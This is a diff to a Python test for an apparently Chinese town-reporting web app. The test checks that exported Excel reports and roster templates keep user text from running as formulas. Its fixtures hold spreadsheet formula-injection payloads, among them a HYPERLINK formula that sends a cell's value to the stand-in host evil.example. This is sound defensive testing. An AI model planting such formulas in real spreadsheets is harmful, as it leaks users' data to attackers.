@@ -15,6 +15,7 @@ from .factories_meetings import make_meeting
 from .factories_town import held, local, make_person, make_town, small_branch
 
 LINK = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看会议记录")'
+SHORT_LINK = '=HYPERLINK("http://e.x/","看")'     # fits a person's name (40) with 书记
 NASTY = [LINK, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
 
 
@@ -49,7 +50,7 @@ def test_the_town_workbook_and_the_roster_template_keep_text_as_text(client, log
     frozen(local(2026, 11, 20))
     town = make_town("青石镇党委")
     admin = make_person("镇管理员", org=town, roles=(Role.TOWN_ADMIN,))
-    branch, (group,), secretary, members = small_branch(town, "evil", LINK)
+    branch, (group,), secretary, members = small_branch(town, "evil", SHORT_LINK)
     group.name = "-2+3"
     secretary.name = "@SUM(1,2)"
     db.session.commit()
@@ -57,7 +58,7 @@ def test_the_town_workbook_and_the_roster_template_keep_text_as_text(client, log
     login(admin)
     report = client.get(f"/town/{town.id}/report.xlsx?period=2026-Q4")
     assert report.status_code == 200
-    assert any(text.startswith(LINK) for text in assert_no_formula(report.data))
+    assert any(text.startswith(SHORT_LINK) for text in assert_no_formula(report.data))
     login(secretary)
     template = client.get(f"/org/{branch.id}/import/template.xlsx")
     assert template.status_code == 200
